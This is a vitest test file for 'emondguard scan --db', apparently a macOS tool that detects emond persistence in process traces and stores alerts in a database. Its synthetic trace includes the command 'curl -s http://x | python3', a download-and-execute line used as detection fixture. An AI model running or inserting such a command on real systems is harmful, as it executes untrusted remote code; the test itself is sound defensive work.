import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { TraceBuilder } from '../helpers/eslogger.js';

const dir = mkdtempSync(path.join(tmpdir(), 'emondguard scan-db '));

/** emond runs a rule action at login: sh -c, then curl and python3 from the shell. */
function emondTrace(): string {
  const t = new TraceBuilder({ version: 9 });
  const launchd = t.existing(1, '/sbin/launchd', 0);
  const emond = t.spawn(launchd, 118, '/sbin/emond');
  const shell = t.spawn(emond, 2401, '/bin/sh', ['sh', '-c', 'curl -s http://x | python3']);
  t.spawn(shell, 2402, '/usr/bin/curl', ['curl', '-s', 'http://x']);
  t.spawn(emond, 2403, '/usr/bin/python3', ['python3', '-c', 'print(1)']);
  t.spawn(launchd, 2404, '/bin/zsh');
  return t.text();
}

describe('emondguard scan --db', () => {
  it('stores what it finds in the alert store, for the alerts commands to review', () => {
    const trace = path.join(dir, 'trace.ndjson');
    writeFileSync(trace, emondTrace());
    const db = path.join(dir, "hunt's.db");
    const scan = runCli(['scan', '--format', 'ndjson', '--db', db, trace]);
    expect(scan.status).toBe(0);
    const printed = scan.stdout.trim().split('\n').map((l) => JSON.parse(l) as { process: { name: string } });
    expect(printed.map((a) => a.process.name)).toEqual(['sh', 'python3']);
    expect(scan.stderr).toContain(`stored in ${db}: 2 new alert(s), 0 merged into identical ones, 0 over max_signals (stored, notifications held back)`);
    expect(scan.stderr).toContain(`emondguard alerts list --db '${dir}/hunt'\\''s.db'`);

    const listed = runCli(['alerts', 'list', '--db', db, '--since', '2000-01-01T00:00:00Z', '--format', 'json']);
    expect(listed.status).toBe(0);
    const rows = JSON.parse(listed.stdout) as Array<Record<string, unknown>>;
    expect(rows).toHaveLength(2);
    expect(JSON.stringify(rows)).toContain('python3');
  });

  it('does not create a database without --db', () => {
    const trace = path.join(dir, 'plain.ndjson');
    writeFileSync(trace, emondTrace());
    const result = runCli(['scan', trace], { env: { EMONDGUARD_DB: path.join(dir, 'should-not-exist.db') } });
    expect(result.status).toBe(0);
    expect(result.stderr).not.toContain('stored in');
    expect(existsSync(path.join(dir, 'should-not-exist.db'))).toBe(false);
  });
});
